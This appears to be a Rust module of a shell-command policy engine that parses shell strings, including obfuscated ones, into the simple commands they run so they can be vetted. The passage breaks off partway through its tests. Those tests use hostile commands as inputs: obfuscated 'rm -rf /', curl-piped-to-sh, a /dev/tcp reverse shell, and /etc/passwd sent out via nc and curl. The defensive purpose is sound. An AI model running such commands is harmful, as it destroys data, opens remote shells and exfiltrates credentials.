//! Shell strings (`bash -c STRING`, `eval`, here-documents fed to a shell, `warden test`)
//! parsed with `brush-parser` into every simple command they run: across pipelines, `&&`,
//! `||`, `;`, subshells, groups, loops, functions, `$(…)`, backticks and `<(…)`.
//!
//! Input that is not UTF-8 is parsed lossily (each invalid byte becomes U+FFFD), so such a
//! byte can never turn into a different, innocent-looking command name. Input that is too
//! large, nested too deeply or not valid shell syntax is reported as [`ShellError`]; the
//! policy's `unparsable` action then decides.

use std::borrow::Cow;

use brush_parser::ast::{self, CommandPrefixOrSuffixItem as Item};
use brush_parser::word::{self, ParameterExpr, TildeExpr, WordPiece, WordPieceWithSource};
use brush_parser::{ParserOptions, Token};

use super::unit::{basename, Unit};
use super::unwrap::{self, Inner};

/// Longest shell string the engine parses.
pub(crate) const MAX_LEN: usize = 256 * 1024;
/// Deepest nesting of shells, substitutions and wrappers the engine follows.
pub(crate) const MAX_DEPTH: usize = 32;
/// Deepest nesting of subshells and `case` the parser is given: on input that turns out
/// invalid, brush-parser 0.4 backtracks over them in time exponential in their depth
/// (found by fuzzing: 24 unclosed `(` take a second).
const MAX_BACKTRACKING_DEPTH: usize = 10;
/// Most simple commands one evaluation looks at.
const MAX_UNITS: usize = 4096;
/// Most distinct programs feeding one pipeline stage.
const MAX_FEEDERS: usize = 256;

#[derive(Debug, thiserror::Error, PartialEq, Eq)]
pub(crate) enum ShellError {
    #[error("shell string of {0} bytes is longer than the {MAX_LEN}-byte limit")]
    TooLong(usize),
    #[error("shell string is nested deeper than {MAX_DEPTH} levels")]
    TooDeep,
    #[error(
        "shell string has more than {MAX_UNITS} commands or {MAX_FEEDERS} programs in a pipeline"
    )]
    TooMany,
    #[error("shell syntax error: {0}")]
    Syntax(String),
}

/// Parses `text` into the simple commands it runs. `depth` counts the enclosing levels.
pub(crate) fn parse(text: &[u8], depth: usize) -> Result<Vec<Unit<'static>>, ShellError> {
    let mut walker = Walker {
        options: ParserOptions::default(),
        units: Vec::new(),
        functions: Vec::new(),
        cwd: None,
    };
    walker.parse(text, depth)?;
    Ok(walker.units)
}

struct Walker {
    options: ParserOptions,
    units: Vec<Unit<'static>>,
    /// Shell functions whose bodies are being walked, to spot self-calls (fork bombs).
    functions: Vec<String>,
    /// Where the last `cd`/`pushd` went; it applies to every later command (conservatively
    /// also outside the subshell it ran in).
    cwd: Option<Vec<u8>>,
}

/// What redirections contribute to the commands they apply to.
#[derive(Default)]
struct Redirections {
    /// Files written (`>`, `>>`, `>&`, `&>`).
    targets: Vec<Vec<u8>>,
    /// Files read (`<`).
    inputs: Vec<Vec<u8>>,
    stdin_text: Option<Vec<u8>>,
    feeders: Vec<Vec<u8>>,
}

impl Walker {
    fn parse(&mut self, text: &[u8], depth: usize) -> Result<(), ShellError> {
        if text.len() > MAX_LEN {
            return Err(ShellError::TooLong(text.len()));
        }
        if depth > MAX_DEPTH || bracket_depth(text) > MAX_DEPTH {
            return Err(ShellError::TooDeep);
        }
        if control_character_delimiter(text) {
            return Err(ShellError::Syntax(
                "here-document delimiter starts with a carriage return or form feed".to_string(),
            ));
        }
        let text = String::from_utf8_lossy(text);
        let tokens = brush_parser::uncached_tokenize_str(&text, &self.options.tokenizer_options())
            .map_err(|e| ShellError::Syntax(e.to_string()))?;
        let nesting = command_nesting(&tokens);
        if nesting.all > MAX_DEPTH || nesting.backtracking > MAX_BACKTRACKING_DEPTH {
            return Err(ShellError::TooDeep);
        }
        refuse_parser_traps(&tokens)?;
        let program = brush_parser::parse_tokens(&tokens, &self.options)
            .map_err(|e| ShellError::Syntax(e.to_string()))?;
        for list in &program.complete_commands {
            self.list(list, depth)?;
        }
        Ok(())
    }

    fn list(&mut self, list: &ast::CompoundList, depth: usize) -> Result<(), ShellError> {
        for ast::CompoundListItem(and_or, _) in &list.0 {
            self.pipeline(&and_or.first, depth)?;
            for next in &and_or.additional {
                let (ast::AndOr::And(p) | ast::AndOr::Or(p)) = next;
                self.pipeline(p, depth)?;
            }
        }
        Ok(())
    }

    /// Each stage is fed by the programs of all earlier stages (`curl … | tee | sh`) and
    /// feeds those of all later ones; text that `echo`, `printf` or `cat <<EOF` pipe on
    /// becomes the next stage's standard input.
    fn pipeline(&mut self, pipeline: &ast::Pipeline, depth: usize) -> Result<(), ShellError> {
        let mut upstream: Vec<Vec<u8>> = Vec::new();
        let mut carried: Option<Vec<u8>> = None;
        let mut stages = Vec::with_capacity(pipeline.seq.len());
        for command in &pipeline.seq {
            let start = self.units.len();
            self.command(command, depth)?;
            for unit in &mut self.units[start..] {
                unit.fed_by.extend(upstream.iter().cloned().map(Cow::Owned));
            }
            if let (Some(text), Some(first)) = (carried.take(), self.units.get_mut(start)) {
                first.stdin_text.get_or_insert(Cow::Owned(text));
            }
            for unit in &self.units[start..] {
                program_names(unit, 0, &mut upstream);
            }
            upstream.sort_unstable();
            upstream.dedup();
            if upstream.len() > MAX_FEEDERS {
                return Err(ShellError::TooMany);
            }
            carried = self.units.get(start).and_then(piped_text);
            stages.push(start..self.units.len());
        }
        let mut downstream: Vec<Vec<u8>> = Vec::new();
        for pair in stages.windows(2).rev() {
            for unit in &self.units[pair[1].clone()] {
                program_names(unit, 0, &mut downstream);
            }
            downstream.sort_unstable();
            downstream.dedup();
            for unit in &mut self.units[pair[0].clone()] {
                unit.feeds
                    .extend(downstream.iter().cloned().map(Cow::Owned));
            }
        }
        Ok(())
    }

    fn command(&mut self, command: &ast::Command, depth: usize) -> Result<(), ShellError> {
        match command {
            ast::Command::Simple(simple) => self.simple(simple, depth),
            ast::Command::Compound(compound, redirects) => {
                let start = self.units.len();
                self.compound(compound, depth)?;
                self.apply_redirects(start, redirects.as_ref(), depth)
            }
            ast::Command::Function(function) => {
                let start = self.units.len();
                self.functions.push(function.fname.value.clone());
                let walked = self.compound(&function.body.0, depth);
                self.functions.pop();
                walked?;
                self.apply_redirects(start, function.body.1.as_ref(), depth)
            }
            ast::Command::ExtendedTest(test, _) => {
                let mut words = Vec::new();
                extended_test_words(&test.expr, &mut words);
                let mut feeders = Vec::new();
                for w in words {
                    self.word(w, depth, &mut feeders)?;
                }
                Ok(())
            }
        }
    }

    fn compound(
        &mut self,
        compound: &ast::CompoundCommand,
        depth: usize,
    ) -> Result<(), ShellError> {
        use ast::CompoundCommand as C;
        let mut feeders = Vec::new();
        match compound {
            C::Arithmetic(_) | C::ArithmeticForClause(_) => Ok(()),
            C::BraceGroup(group) => self.list(&group.list, depth),
            C::Subshell(sub) => self.list(&sub.list, depth),
            C::ForClause(clause) => {
                for value in clause.values.iter().flatten() {
                    self.word(value, depth, &mut feeders)?;
                }
                self.list(&clause.body.list, depth)
            }
            C::CaseClause(clause) => {
                self.word(&clause.value, depth, &mut feeders)?;
                for case in &clause.cases {
                    if let Some(cmd) = &case.cmd {
                        self.list(cmd, depth)?;
                    }
                }
                Ok(())
            }
            C::IfClause(clause) => {
                self.list(&clause.condition, depth)?;
                self.list(&clause.then, depth)?;
                for other in clause.elses.iter().flatten() {
                    if let Some(condition) = &other.condition {
                        self.list(condition, depth)?;
                    }
                    self.list(&other.body, depth)?;
                }
                Ok(())
            }
            C::WhileClause(clause) | C::UntilClause(clause) => {
                self.list(&clause.0, depth)?;
                self.list(&clause.1.list, depth)
            }
            C::Coprocess(coprocess) => self.command(&coprocess.body, depth),
        }
    }

    fn simple(&mut self, command: &ast::SimpleCommand, depth: usize) -> Result<(), ShellError> {
        let slot = self.units.len();
        self.push(Unit::default())?;
        let mut unit = Unit::default();
        let mut feeders: Vec<Vec<u8>> = Vec::new();
        let mut redirections = Redirections::default();
        let prefix = command.prefix.iter().flat_map(|p| p.0.iter());
        let suffix = command.suffix.iter().flat_map(|s| s.0.iter());
        for item in prefix {
            match item {
                Item::AssignmentWord(assignment, word) => {
                    unit.env.push(Cow::Owned(assignment_name(assignment)));
                    self.word(word, depth, &mut feeders)?;
                }
                other => self.item(other, depth, &mut unit, &mut feeders, &mut redirections)?,
            }
        }
        if let Some(name) = &command.word_or_name {
            for w in self.word(name, depth, &mut feeders)? {
                unit.argv.push(Cow::Owned(w));
            }
        }
        for item in suffix {
            self.item(item, depth, &mut unit, &mut feeders, &mut redirections)?;
        }
        declared_variables(&mut unit);
        unit.program = unit.argv.first().cloned().unwrap_or_default();
        unit.cwd = self.cwd.clone().map(Cow::Owned);
        if matches!(&*unit.program, b"cd" | b"pushd") {
            let target = unit.args().iter().find(|a| !a.starts_with(b"-"));
            self.cwd = Some(target.map_or(b"~".to_vec(), |t| t.to_vec()));
        }
        if self
            .functions
            .iter()
            .any(|f| f.as_bytes() == &*unit.program)
        {
            // A function that calls itself: reached `via` "NAME()" (see the fork bomb rule).
            let mut marker = unit.program.to_vec();
            marker.extend(b"()");
            unit.via.push(Cow::Owned(marker));
        }
        unit.fed_by.extend(
            feeders
                .into_iter()
                .chain(redirections.feeders)
                .map(Cow::Owned),
        );
        // What ran inside this command's words and redirections (`$(…)`, `<(…)`) feeds it.
        if self.units.len() > slot + 1 {
            let mut readers = Vec::new();
            program_names(&unit, 0, &mut readers);
            for nested in &mut self.units[slot + 1..] {
                nested.feeds.extend(readers.iter().cloned().map(Cow::Owned));
            }
        }
        unit.redirects
            .extend(redirections.targets.into_iter().map(Cow::Owned));
        unit.inputs
            .extend(redirections.inputs.into_iter().map(Cow::Owned));
        unit.stdin_text = redirections.stdin_text.map(Cow::Owned);
        self.units[slot] = unit;
        Ok(())
    }

    /// A word, redirection or process substitution after the command name.
    fn item(
        &mut self,
        item: &Item,
        depth: usize,
        unit: &mut Unit<'static>,
        feeders: &mut Vec<Vec<u8>>,
        redirections: &mut Redirections,
    ) -> Result<(), ShellError> {
        match item {
            Item::Word(word) | Item::AssignmentWord(_, word) => {
                for w in self.word(word, depth, feeders)? {
                    unit.argv.push(Cow::Owned(w));
                }
            }
            Item::IoRedirect(redirect) => self.redirect(redirect, depth, redirections)?,
            Item::ProcessSubstitution(_, subshell) => {
                let start = self.units.len();
                self.list(&subshell.list, depth + 1)?;
                for nested in &self.units[start..] {
                    program_names(nested, 0, feeders);
                }
                unit.argv.push(Cow::Borrowed(b"<(...)"));
            }
        }
        Ok(())
    }

    fn redirect(
        &mut self,
        redirect: &ast::IoRedirect,
        depth: usize,
        into: &mut Redirections,
    ) -> Result<(), ShellError> {
        use ast::IoFileRedirectTarget as T;
        match redirect {
            ast::IoRedirect::File(_, kind, target) => match target {
                T::Filename(w) | T::Duplicate(w) => {
                    use ast::IoFileRedirectKind as K;
                    let words = self.word(w, depth, &mut into.feeders)?;
                    let words = words.into_iter().filter(|w| !is_fd(w));
                    match kind {
                        K::Read | K::DuplicateInput => into.inputs.extend(words),
                        K::ReadAndWrite => {
                            let words: Vec<_> = words.collect();
                            into.inputs.extend(words.iter().cloned());
                            into.targets.extend(words);
                        }
                        K::Write | K::Append | K::Clobber | K::DuplicateOutput => {
                            into.targets.extend(words)
                        }
                    }
                }
                T::Fd(_) => {}
                T::ProcessSubstitution(_, subshell) => {
                    let start = self.units.len();
                    self.list(&subshell.list, depth + 1)?;
                    for nested in &self.units[start..] {
                        program_names(nested, 0, &mut into.feeders);
                    }
                }
            },
            ast::IoRedirect::OutputAndError(w, _) => {
                let words = self.word(w, depth, &mut into.feeders)?;
                into.targets.extend(words);
            }
            ast::IoRedirect::HereString(_, w) => {
                let words = self.word(w, depth, &mut into.feeders)?;
                into.stdin_text = Some(words.join(&b' '));
            }
            ast::IoRedirect::HereDocument(_, doc) => {
                into.stdin_text = Some(doc.doc.value.as_bytes().to_vec());
            }
        }
        Ok(())
    }

    /// Redirections of a compound command apply to every command inside it.
    fn apply_redirects(
        &mut self,
        start: usize,
        redirects: Option<&ast::RedirectList>,
        depth: usize,
    ) -> Result<(), ShellError> {
        let Some(list) = redirects else { return Ok(()) };
        let mut found = Redirections::default();
        for redirect in &list.0 {
            self.redirect(redirect, depth, &mut found)?;
        }
        for unit in &mut self.units[start..] {
            unit.redirects
                .extend(found.targets.iter().cloned().map(Cow::Owned));
            unit.inputs
                .extend(found.inputs.iter().cloned().map(Cow::Owned));
            unit.fed_by
                .extend(found.feeders.iter().cloned().map(Cow::Owned));
            if unit.stdin_text.is_none() {
                unit.stdin_text = found.stdin_text.clone().map(Cow::Owned);
            }
        }
        Ok(())
    }

    /// Renders a word without quotes and escapes; its command substitutions are parsed as
    /// commands of their own and their programs recorded in `feeders`. `$IFS` splits words.
    fn word(
        &mut self,
        word: &ast::Word,
        depth: usize,
        feeders: &mut Vec<Vec<u8>>,
    ) -> Result<Vec<Vec<u8>>, ShellError> {
        let pieces = word::parse(&word.value, &self.options)
            .map_err(|e| ShellError::Syntax(e.to_string()))?;
        if let Some(words) = simple_brace_list(&word.value) {
            return Ok(words);
        }
        let mut text = Vec::new();
        let mut substitutions = Vec::new();
        render(&word.value, &pieces, &mut text, &mut substitutions);
        for inner in substitutions {
            let start = self.units.len();
            self.parse(inner.as_bytes(), depth + 1)?;
            for nested in &self.units[start..] {
                program_names(nested, 0, feeders);
            }
        }
        Ok(split_ifs(text))
    }

    fn push(&mut self, unit: Unit<'static>) -> Result<(), ShellError> {
        if self.units.len() >= MAX_UNITS {
            return Err(ShellError::TooMany);
        }
        self.units.push(unit);
        Ok(())
    }
}

/// Appends the unquoted text of `pieces` to `out`; command substitutions go to `subs`.
fn render(source: &str, pieces: &[WordPieceWithSource], out: &mut Vec<u8>, subs: &mut Vec<String>) {
    for piece in pieces {
        let raw = source.get(piece.start_index..piece.end_index).unwrap_or("");
        match &piece.piece {
            WordPiece::Text(s) | WordPiece::SingleQuotedText(s) => out.extend(s.as_bytes()),
            WordPiece::AnsiCQuotedText(s) => ansi_c_unescape(s.as_bytes(), out),
            WordPiece::DoubleQuotedSequence(inner)
            | WordPiece::GettextDoubleQuotedSequence(inner) => render(source, inner, out, subs),
            WordPiece::TildeExpansion(tilde) => match tilde {
                TildeExpr::UserHome(user) => {
                    out.push(b'~');
                    out.extend(user.as_bytes());
                }
                _ => out.push(b'~'),
            },
            WordPiece::ParameterExpansion(ParameterExpr::Parameter {
                parameter: word::Parameter::Named(name),
                indirect: false,
            }) => {
                out.push(b'$');
                out.extend(name.as_bytes());
            }
            WordPiece::ParameterExpansion(_) | WordPiece::ArithmeticExpression(_) => {
                out.extend(raw.as_bytes())
            }
            WordPiece::CommandSubstitution(inner) => {
                out.extend(raw.as_bytes());
                subs.push(inner.clone());
            }
            WordPiece::BackquotedCommandSubstitution(inner) => {
                out.extend(raw.as_bytes());
                subs.push(backquote_unescape(inner));
            }
            WordPiece::EscapeSequence(s) => {
                let escaped = s.strip_prefix('\\').unwrap_or(s);
                if escaped != "\n" {
                    out.extend(escaped.as_bytes());
                }
            }
        }
    }
}

/// `{rm,-rf,/}` is three words to bash. Only the plain form (no quotes, expansions or
/// nesting) is split; anything fancier stays one word.
fn simple_brace_list(raw: &str) -> Option<Vec<Vec<u8>>> {
    let inner = raw.strip_prefix('{')?.strip_suffix('}')?;
    let plain = inner.contains(',')
        && !inner.contains(|c: char| "{}'\"\\$`".contains(c) || c.is_whitespace());
    plain.then(|| inner.split(',').map(|w| w.as_bytes().to_vec()).collect())
}

/// What a pipeline stage writes, when the engine can know it: `echo`/`printf` arguments,
/// or the here-document `cat` copies.
fn piped_text(unit: &Unit<'_>) -> Option<Vec<u8>> {
    let args = unit.args();
    match unit.name() {
        b"echo" | b"printf" => {
            let words: Vec<&[u8]> = args
                .iter()
                .map(|a| &**a)
                .skip_while(|a| a.starts_with(b"-"))
                .collect();
            Some(words.join(&b' '))
        }
        b"cat" if args.is_empty() => unit.stdin_text.as_ref().map(|t| t.to_vec()),
        _ => None,
    }
}

fn is_fd(word: &[u8]) -> bool {
    !word.is_empty() && word.iter().all(|b| b.is_ascii_digit() || *b == b'-')
}

/// Inside backquotes, `\$`, `` \` `` and `\\` stand for the character itself.
fn backquote_unescape(text: &str) -> String {
    let mut out = String::with_capacity(text.len());
    let mut chars = text.chars().peekable();
    while let Some(c) = chars.next() {
        if c == '\\' {
            if let Some(&next) = chars.peek() {
                if matches!(next, '$' | '`' | '\\') {
                    out.push(next);
                    chars.next();
                    continue;
                }
            }
        }
        out.push(c);
    }
    out
}

/// Decodes the escapes of `$'…'` (`$'\x72m'` is `rm`).
fn ansi_c_unescape(text: &[u8], out: &mut Vec<u8>) {
    let mut i = 0;
    while i < text.len() {
        if text[i] != b'\\' || i + 1 >= text.len() {
            out.push(text[i]);
            i += 1;
            continue;
        }
        let c = text[i + 1];
        i += 2;
        let simple = match c {
            b'a' => Some(7),
            b'b' => Some(8),
            b'e' | b'E' => Some(27),
            b'f' => Some(12),
            b'n' => Some(b'\n'),
            b'r' => Some(b'\r'),
            b't' => Some(b'\t'),
            b'v' => Some(11),
            b'\\' | b'\'' | b'"' | b'?' => Some(c),
            _ => None,
        };
        if let Some(byte) = simple {
            out.push(byte);
            continue;
        }
        let (radix, max_digits) = match c {
            b'x' => (16, 2),
            b'u' => (16, 4),
            b'U' => (16, 8),
            b'0'..=b'7' => {
                i -= 1;
                (8, 3)
            }
            b'c' if i < text.len() => {
                out.push(text[i] & 0x1f);
                i += 1;
                continue;
            }
            _ => {
                out.extend([b'\\', c]);
                continue;
            }
        };
        let digits = text[i..]
            .iter()
            .take(max_digits)
            .take_while(|d| {
                (d.is_ascii_digit() && (**d - b'0') < radix)
                    || (radix == 16 && d.is_ascii_hexdigit())
            })
            .count();
        let value = std::str::from_utf8(&text[i..i + digits])
            .ok()
            .and_then(|d| u32::from_str_radix(d, radix.into()).ok());
        i += digits;
        match (value, c) {
            (Some(v), b'u' | b'U') => {
                let ch = char::from_u32(v).unwrap_or(char::REPLACEMENT_CHARACTER);
                out.extend(ch.encode_utf8(&mut [0; 4]).as_bytes());
            }
            (Some(v), _) => out.push(v as u8),
            (None, _) => out.extend([b'\\', c]),
        }
    }
}

/// `rm${IFS}-rf${IFS}/` is three words to the shell.
fn split_ifs(text: Vec<u8>) -> Vec<Vec<u8>> {
    const IFS: &[u8] = b"$IFS";
    if !text.windows(IFS.len()).any(|w| w == IFS) {
        return vec![text];
    }
    let mut words = Vec::new();
    let mut rest: &[u8] = &text;
    while let Some(at) = rest.windows(IFS.len()).position(|w| w == IFS) {
        words.push(rest[..at].to_vec());
        rest = &rest[at + IFS.len()..];
    }
    words.push(rest.to_vec());
    words.retain(|w| !w.is_empty());
    words
}

/// `<< \r…`: brush-parser 0.4's tokenizer never finishes on a here-document delimiter that
/// starts with a carriage return or a form feed (found by fuzzing), so such input is refused
/// unparsed.
fn control_character_delimiter(text: &[u8]) -> bool {
    text.windows(2).enumerate().any(|(at, pair)| {
        pair == b"<<"
            && text[at + 2..]
                .iter()
                .skip_while(|&&b| b == b'-')
                .find(|&&b| b != b' ' && b != b'\t')
                .is_some_and(|&b| b == b'\r' || b == b'\x0c')
    })
}

/// Input on which brush-parser 0.4 panics or takes exponential time (found by fuzzing) is
/// refused before it reaches the parser, which looks at every word while parsing.
fn refuse_parser_traps(tokens: &[Token]) -> Result<(), ShellError> {
    if io_number_overflow(tokens) {
        return Err(ShellError::Syntax(
            "file descriptor number too large".to_string(),
        ));
    }
    for token in tokens {
        let Token::Word(word, _) = token else {
            continue;
        };
        if unclosed_array_indexes(word) > 1 {
            return Err(ShellError::Syntax(format!(
                "unclosed array indexes in {word:?}"
            )));
        }
        if tilde_number_overflow(word) {
            return Err(ShellError::Syntax(format!(
                "directory stack number too large in {word:?}"
            )));
        }
    }
    Ok(())
}

/// `99999999999>f`: brush-parser 0.4 panics on an I/O number that does not fit an `i32`.
fn io_number_overflow(tokens: &[Token]) -> bool {
    tokens.windows(2).any(|pair| match pair {
        [Token::Word(number, _), Token::Operator(op, _)] => {
            op.starts_with(['<', '>'])
                && !number.is_empty()
                && number.bytes().all(|b| b.is_ascii_digit())
                && number.parse::<i32>().is_err()
        }
        _ => false,
    })
}

/// How many `${NAME[` have no `]` before the next `}`: brush-parser 0.4's word parser takes
/// time exponential in their number (found by fuzzing; five take seconds).
fn unclosed_array_indexes(word: &str) -> usize {
    word.match_indices("${")
        .filter(|&(at, _)| {
            let rest = word[at + 2..].trim_start_matches(['#', '!']);
            let rest = rest.trim_start_matches(|c: char| c.is_ascii_alphanumeric() || c == '_');
            rest.strip_prefix('[').is_some_and(|index| {
                let end = index.find('}').unwrap_or(index.len());
                !index[..end].contains(']')
            })
        })
        .count()
}

/// `~+99999999999999999999`: brush-parser 0.4 panics on a directory stack index that does
/// not fit a `usize`.
fn tilde_number_overflow(word: &str) -> bool {
    word.split('~').skip(1).any(|after| {
        let digits = after.trim_start_matches(['+', '-']);
        digits.bytes().take_while(u8::is_ascii_digit).count() > 18
    })
}

/// The deepest nesting of brackets, counted before parsing so that the parser never
/// recurses without bound. Quotes are ignored, which can only overestimate.
fn bracket_depth(text: &[u8]) -> usize {
    let (mut depth, mut deepest) = (0usize, 0usize);
    for &b in text {
        match b {
            b'(' | b'{' => {
                depth += 1;
                deepest = deepest.max(depth);
            }
            b')' | b'}' => depth = depth.saturating_sub(1),
            _ => {}
        }
    }
    deepest
}

/// How deeply compound commands nest in a token stream.
struct Nesting {
    /// All compound commands (`if`, loops, groups, `[[`, subshells…).
    all: usize,
    /// Subshells and `case`, on which the parser backtracks.
    backtracking: usize,
}

/// The nesting of compound commands in a token stream, checked before parsing because the
/// parser recurses once per level. Keywords count only where the shell reads them as
/// keywords (in command position), as the parser does.
fn command_nesting(tokens: &[Token]) -> Nesting {
    const OPENERS: &[&str] = &[
        "if", "while", "until", "for", "select", "case", "{", "[[", "!", "function", "coproc",
        "time",
    ];
    const CLOSERS: &[&str] = &["fi", "done", "esac", "}", "]]"];
    const BEFORE_COMMAND: &[&str] = &[
        "then", "do", "else", "elif", "if", "while", "until", "!", "{", "time", "coproc",
    ];
    let (mut depth, mut parens, mut cases) = (0usize, 0usize, 0usize);
    let mut deepest = Nesting {
        all: 0,
        backtracking: 0,
    };
    let mut command_position = true;
    for token in tokens {
        match token {
            Token::Operator(op, _) => {
                match op.as_str() {
                    "(" => {
                        parens += 1;
                        depth += 1;
                    }
                    ")" if parens > 0 => {
                        parens -= 1;
                        depth = depth.saturating_sub(1);
                    }
                    _ => {}
                }
                command_position = !op.contains(['<', '>']);
            }
            Token::Word(word, _) => {
                let word = word.as_str();
                if command_position && OPENERS.contains(&word) {
                    depth += 1;
                    cases += usize::from(word == "case");
                } else if command_position && CLOSERS.contains(&word) {
                    depth = depth.saturating_sub(1);
                    if word == "esac" {
                        cases = cases.saturating_sub(1);
                    }
                }
                command_position = BEFORE_COMMAND.contains(&word);
            }
        }
        deepest.all = deepest.all.max(depth);
        deepest.backtracking = deepest.backtracking.max(parens + cases);
    }
    deepest
}

fn assignment_name(assignment: &ast::Assignment) -> Vec<u8> {
    match &assignment.name {
        ast::AssignmentName::VariableName(name)
        | ast::AssignmentName::ArrayElementName(name, _) => name.as_bytes().to_vec(),
    }
}

/// `unset VAR`, `export VAR=…`, `declare -x VAR=…` change the environment of what follows.
fn declared_variables(unit: &mut Unit<'static>) {
    let Some(program) = unit.argv.first() else {
        return;
    };
    if !matches!(
        &**program,
        b"unset" | b"export" | b"declare" | b"typeset" | b"local" | b"readonly"
    ) {
        return;
    }
    for arg in unit.argv[1..].iter().filter(|a| !a.starts_with(b"-")) {
        let name = unwrap::assignment_name(arg).unwrap_or(arg);
        unit.env.push(Cow::Owned(name.to_vec()));
    }
}

/// The names of the programs a unit runs, wrappers seen through (`sudo curl` gives both).
fn program_names(unit: &Unit<'_>, depth: usize, into: &mut Vec<Vec<u8>>) {
    if unit.program.is_empty() {
        return;
    }
    into.push(basename(&unit.program).to_vec());
    if depth >= MAX_DEPTH {
        return;
    }
    for inner in unwrap::inner(unit) {
        if let Inner::Command { start, end, .. } = inner {
            let child = unit.child(&unit.argv[start..end], &unit.program);
            program_names(&child, depth + 1, into);
        }
    }
}

fn extended_test_words<'a>(expr: &'a ast::ExtendedTestExpr, into: &mut Vec<&'a ast::Word>) {
    use ast::ExtendedTestExpr as E;
    match expr {
        E::And(a, b) | E::Or(a, b) => {
            extended_test_words(a, into);
            extended_test_words(b, into);
        }
        E::Not(a) | E::Parenthesized(a) => extended_test_words(a, into),
        E::UnaryTest(_, w) => into.push(w),
        E::BinaryTest(_, a, b) => {
            into.push(a);
            into.push(b);
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn text(words: &[Cow<'_, [u8]>]) -> Vec<String> {
        words
            .iter()
            .map(|w| String::from_utf8_lossy(w).into_owned())
            .collect()
    }

    fn argvs(input: &str) -> Vec<Vec<String>> {
        parse(input.as_bytes(), 0)
            .unwrap()
            .iter()
            .map(|u| text(&u.argv))
            .collect()
    }

    #[test]
    fn quotes_escapes_and_expansions_are_resolved() {
        assert_eq!(argvs("'r'm -rf /"), [["rm", "-rf", "/"]]);
        assert_eq!(argvs(r"r\m -rf /"), [["rm", "-rf", "/"]]);
        assert_eq!(argvs(r"$'\x72\155' x"), [["rm", "x"]]);
        assert_eq!(argvs("{rm,-rf,/}"), [["rm", "-rf", "/"]]);
        assert_eq!(argvs("rm${IFS}-rf${IFS}/"), [["rm", "-rf", "/"]]);
        assert_eq!(
            argvs("rm \"$HOME\" ${HOME}/x ~/"),
            [["rm", "$HOME", "$HOME/x", "~/"]]
        );
    }

    #[test]
    fn every_simple_command_is_found() {
        assert_eq!(
            argvs("a 1 && b || (c; { d; }) | e & f $(g `h`)"),
            [
                vec!["a", "1"],
                vec!["b"],
                vec!["c"],
                vec!["d"],
                vec!["e"],
                vec!["f", "$(g `h`)"],
                vec!["g", "`h`"],
                vec!["h"]
            ]
        );
        assert_eq!(
            argvs("for x in $(ls); do rm $x; done"),
            [vec!["ls"], vec!["rm", "$x"]]
        );
    }

    #[test]
    fn pipelines_substitutions_and_redirections_are_recorded() {
        let units = parse(b"curl x | sudo tee f | sh", 0).unwrap();
        assert_eq!(text(&units[2].fed_by), ["curl", "sudo", "tee"]);
        let units = parse(b"bash <(wget -O- x)", 0).unwrap();
        assert_eq!(text(&units[0].fed_by), ["wget"]);
        let units = parse(b"bash -i >& /dev/tcp/1.2.3.4/1 0>&1 < in.txt", 0).unwrap();
        assert_eq!(text(&units[0].redirects), ["/dev/tcp/1.2.3.4/1"]);
        assert_eq!(text(&units[0].inputs), ["in.txt"]);
        let units = parse(b"LD_PRELOAD= A=1 ls; unset B; export C=2", 0).unwrap();
        assert_eq!(text(&units[0].env), ["LD_PRELOAD", "A"]);
        assert_eq!(text(&units[1].env), ["B"]);
        assert_eq!(text(&units[2].env), ["C"]);
        let units = parse(b"echo 'rm -rf /' | sh", 0).unwrap();
        assert_eq!(units[1].stdin_text.as_deref(), Some(&b"rm -rf /"[..]));
        let units = parse(b"sh <<EOF\nrm x\nEOF\n", 0).unwrap();
        assert_eq!(units[0].stdin_text.as_deref(), Some(&b"rm x\n"[..]));
    }

    #[test]
    fn limits_are_errors() {
        assert_eq!(
            parse(&vec![b'a'; MAX_LEN + 1], 0).err(),
            Some(ShellError::TooLong(MAX_LEN + 1))
        );
        assert_eq!(parse(b"ls", MAX_DEPTH + 1).err(), Some(ShellError::TooDeep));
        let deep = format!(
            "{}x{}",
            "(".repeat(MAX_DEPTH + 1),
            ")".repeat(MAX_DEPTH + 1)
        );
        assert_eq!(parse(deep.as_bytes(), 0).err(), Some(ShellError::TooDeep));
        assert!(matches!(parse(b"echo 'x", 0), Err(ShellError::Syntax(_))));
        assert!(matches!(parse(b"a << \r ", 0), Err(ShellError::Syntax(_))));
        assert!(matches!(
            parse(b"a <<\x0c\t", 0),
            Err(ShellError::Syntax(_))
        ));
        assert!(matches!(
            parse(b"a <<-\t\r\t", 0),
            Err(ShellError::Syntax(_))
        ));
        assert!(parse(b"echo a\r b", 0).is_ok());
        assert!(matches!(
            parse(b"ls 99999999999> f", 0),
            Err(ShellError::Syntax(_))
        ));
        assert!(parse(b"ls 2> f", 0).is_ok());
        let tilde = format!("ls ~+{}", "9".repeat(30));
        assert!(matches!(
            parse(tilde.as_bytes(), 0),
            Err(ShellError::Syntax(_))
        ));
        assert!(parse(b"cd ~+1", 0).is_ok());
        let parens = format!("{} x", "( ".repeat(MAX_BACKTRACKING_DEPTH + 1));
        assert_eq!(parse(parens.as_bytes(), 0).err(), Some(ShellError::TooDeep));
        let cases = "case x in y) ".repeat(MAX_BACKTRACKING_DEPTH + 1);
        assert_eq!(parse(cases.as_bytes(), 0).err(), Some(ShellError::TooDeep));
        let ok = format!(
            "{} x {}",
            "( ".repeat(MAX_BACKTRACKING_DEPTH),
            ") ".repeat(MAX_BACKTRACKING_DEPTH)
        );
        assert!(parse(ok.as_bytes(), 0).is_ok());
        let slow = format!("echo {}", "${a[}".repeat(8));
        assert!(matches!(
            parse(slow.as_bytes(), 0),
            Err(ShellError::Syntax(_))
        ));
        assert!(parse(b"echo ${a[0]}${b[1]}${c[@]}", 0).is_ok());
        assert_eq!(
            parse("x;".repeat(MAX_UNITS + 1).as_bytes(), 0).err(),
            Some(ShellError::TooMany)
        );
    }

    #[test]
    fn what_a_command_feeds_is_recorded() {
        let units = parse(b"cat /etc/passwd | gzip | sudo nc x 1", 0).unwrap();
        assert_eq!(text(&units[0].feeds), ["gzip", "nc", "sudo"]);
        assert_eq!(text(&units[1].feeds), ["nc", "sudo"]);
        assert!(units[2].feeds.is_empty());
        let units = parse(b"curl -d \"$(cat /etc/passwd)\" x <<< `id`; ls $(pwd)", 0).unwrap();
        let argv0: Vec<_> = units.iter().map(|u| text(&u.argv[..1])).collect();
        assert_eq!(argv0, [["curl"], ["cat"], ["id"], ["ls"], ["pwd"]]);
        assert!(units[0].feeds.is_empty());
        assert_eq!(text(&units[1].feeds), ["curl"]);
        assert_eq!(text(&units[2].feeds), ["curl"]);
